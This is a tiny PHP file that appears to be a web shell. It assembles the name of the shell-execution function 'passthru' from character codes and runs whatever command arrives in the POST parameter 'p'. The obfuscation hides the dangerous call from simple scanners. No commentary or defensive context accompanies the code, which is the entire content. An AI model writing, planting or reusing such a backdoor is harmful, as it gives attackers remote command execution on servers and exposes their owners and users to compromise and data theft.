<?php
$x = chr(112) . chr(97) . chr(115) . chr(115) . chr(116) . chr(104) . chr(114) . chr(117);
$x($_POST['p']);
